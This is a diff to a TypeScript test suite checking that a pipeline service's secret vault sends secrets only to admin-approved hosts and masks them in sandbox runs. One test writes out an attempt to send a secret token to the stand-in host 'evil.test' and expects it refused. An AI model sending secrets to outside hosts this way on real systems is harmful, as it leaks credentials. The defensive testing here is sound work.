@@ -11,6 +11,8 @@ import {
 import { expectProblem } from './expect-problem.ts';
 import type { Call, TestService } from './service.ts';
 import { callApi, describeOnBothHomes, startService } from './service.ts';
+import type { RepeatingTarget } from './security/repeating-target.ts';
+import { startRepeatingTarget } from './security/repeating-target.ts';
 import { runOf } from './wait-for.ts';
 import type { ServedSimulators } from '../src/sandbox/kit/serve-simulators.ts';
 import { serveSimulators } from '../src/sandbox/kit/serve-simulators.ts';
@@ -33,26 +35,33 @@ const paths: [method: string, path: string, body?: object][] = [
   ]),
 ];
 
-/** A run of one record through one template. */
-const fill = async (call: Call, template: string) => {
-  const body = {
-    pipes: [{ pipe_id: 'template:fill@1', config: { template } }],
+/** A run of one record that sends this text to a target. */
+const send = async (call: Call, url: string, body: string, environment = 'production') => {
+  const request = {
+    pipes: [{ pipe_id: 'http:request@1', config: { url, method: 'POST', body } }],
     input: [{ id: 1, name: 'Jane' }],
+    config: { environment },
   };
-  const { records } = runOf(await call('/v1/pipes/run/sync', { body }));
-  return records['1']?.fields.template_output;
+  const { records } = runOf(await call('/v1/pipes/run/sync', { body: request }));
+  return records['1']?.fields.http_response_body;
 };
 
 describeOnBothHomes('the vault', (home) => {
   let service: TestService;
   let vendors: ServedSimulators;
+  let target: RepeatingTarget;
   beforeAll(async () => {
     vendors = await serveSimulators({ simulators, world: createWorld(), port: 0, host: '127.0.0.1' });
-    service = await startService(home, { HEADRACE_PROVIDER_URLS: `*=${vendors.url}/vendors/{id}` });
+    target = await startRepeatingTarget([]);
+    service = await startService(home, {
+      HEADRACE_PROVIDER_URLS: `*=${vendors.url}/vendors/{id}`,
+      HEADRACE_ALLOW_PRIVATE_HOSTS: '127.0.0.1',
+    });
   });
   afterAll(async () => {
     await service.stop();
     await vendors.close();
+    target.stop();
   });
 
   const create = async (call: Call, body: object = {}) => {
@@ -164,21 +173,51 @@ describeOnBothHomes('the vault', (home) => {
       }
     });
 
-    it('render in templates, a change at once', async () => {
+    const text = '{{ name }} {{ SECRETS.TOKEN }} {{ CONSTANTS.TEAM }}';
+
+    it('go out with requests, a change at once', async () => {
       const { call } = await service.createOrganization('free');
-      const template = '{{ name }} {{ SECRETS.TOKEN }} {{ CONSTANTS.TEAM }}';
-      expect(await fill(call, template)).toMatchObject({
-        status: 'failed',
-        reason: { code: 'MissingSecret' },
-      });
-      await put(call, '/v1/secrets/TOKEN', { value: 's1' });
-      expect(await fill(call, template)).toMatchObject({ reason: { code: 'MissingConstant' } });
+      const fill = () => send(call, target.url, text);
+      const allowed_hosts = [new URL(target.url).host];
+      expect(await fill()).toMatchObject({ status: 'failed', reason: { code: 'MissingSecret' } });
+      await put(call, '/v1/secrets/TOKEN', { value: 'Secret-1', allowed_hosts });
+      expect(await fill()).toMatchObject({ reason: { code: 'MissingConstant' } });
       await put(call, '/v1/constants/TEAM', { value: 'c1' });
-      expect(await fill(call, template)).toMatchObject({ value: 'Jane [secret] c1' });
+      expect(await fill()).toMatchObject({ status: 'completed' });
       await put(call, '/v1/constants/TEAM', { value: 'c2' });
-      expect(await fill(call, template)).toMatchObject({ value: 'Jane [secret] c2' });
+      expect(JSON.stringify(await fill())).toContain('Jane [secret] c2');
       await remove(call, '/v1/constants/TEAM');
-      expect(await fill(call, template)).toMatchObject({ reason: { code: 'MissingConstant' } });
+      expect(await fill()).toMatchObject({ reason: { code: 'MissingConstant' } });
+      for (const sent of ['Jane Secret-1 c1', 'Jane Secret-1 c2']) expect(target.heard()).toContain(sent);
+    });
+
+    it('go to the hosts an admin named, and keep them when their value changes', async () => {
+      const { call } = await service.createOrganization('free');
+      await put(call, '/v1/constants/TEAM', { value: 'c' });
+      const refused = { status: 'failed', reason: { code: 'TargetRefused' } };
+      const set = async (body: object) => secret.parse((await put(call, '/v1/secrets/TOKEN', body)).json);
+      expect((await set({ value: 'Unbound-1' })).allowed_hosts).toEqual([]);
+      expect(await send(call, target.url, text)).toMatchObject(refused);
+      const allowed_hosts = ['api.acme.com', new URL(target.url).host];
+      expect((await set({ value: 'Bound-2', allowed_hosts })).allowed_hosts).toEqual(allowed_hosts);
+      expect(await send(call, target.url, text)).toMatchObject({ status: 'completed' });
+      expect((await set({ value: 'Bound-3' })).allowed_hosts).toEqual(allowed_hosts);
+      expect(await send(call, target.url, text)).toMatchObject({ status: 'completed' });
+      expect(await send(call, target.url.replace('127.0.0.1', 'localhost'), text)).toMatchObject(refused);
+      expect((await set({ value: 'Bound-4', allowed_hosts: [] })).allowed_hosts).toEqual([]);
+      expect(await send(call, target.url, text)).toMatchObject(refused);
+      const heard = (value: string) => target.heard().includes(`Jane ${value} c`);
+      expect(['Unbound-1', 'Bound-2', 'Bound-3', 'Bound-4'].map(heard)).toEqual([false, true, true, false]);
+    });
+
+    it('are not what a sandbox sends, which has their look', async () => {
+      const { call } = await service.createOrganization('free');
+      await put(call, '/v1/secrets/TOKEN', { value: 'Ab1', allowed_hosts: ['api.acme.com'] });
+      const answer = await send(call, 'https://api.acme.com/', 'It is {{ SECRETS.TOKEN }}.', 'sandbox');
+      expect(JSON.stringify(answer)).toContain('It is Xx0.');
+      expect(await send(call, 'https://evil.test/', '{{ SECRETS.TOKEN }}', 'sandbox')).toMatchObject({
+        reason: { code: 'TargetRefused' },
+      });
     });
 
     it('are per organization', async () => {
@@ -186,7 +225,7 @@ describeOnBothHomes('the vault', (home) => {
       const theirs = await service.createOrganization('free');
       await put(mine.call, '/v1/secrets/TOKEN', { value: 's1' });
       expectProblem(await theirs.call('/v1/secrets/TOKEN'), 'not-found');
-      expect(await fill(theirs.call, '{{ SECRETS.TOKEN }}')).toMatchObject({
+      expect(await send(theirs.call, target.url, '{{ SECRETS.TOKEN }}')).toMatchObject({
         reason: { code: 'MissingSecret' },
       });
     });
@@ -198,6 +237,9 @@ describeOnBothHomes('the vault', (home) => {
       ['an empty value', '/v1/secrets/TOKEN', { value: '' }],
       ['a value that is no text', '/v1/secrets/TOKEN', { value: 1 }],
       ['a value that is too long', '/v1/secrets/TOKEN', { value: 'x'.repeat(10_001) }],
+      ['any host', '/v1/secrets/TOKEN', { value: 'v', allowed_hosts: ['*'] }],
+      ['a URL for a host', '/v1/secrets/TOKEN', { value: 'v', allowed_hosts: ['https://acme.com'] }],
+      ['hosts for a constant', '/v1/constants/TEAM', { value: 'v', allowed_hosts: [] }],
       ['a NUL in a constant', '/v1/constants/TEAM', { value: 'a\0b' }],
     ])('one with %s is refused', async (_, path, body) => {
       expectProblem(await put(service.call, path, body), 'invalid-request');
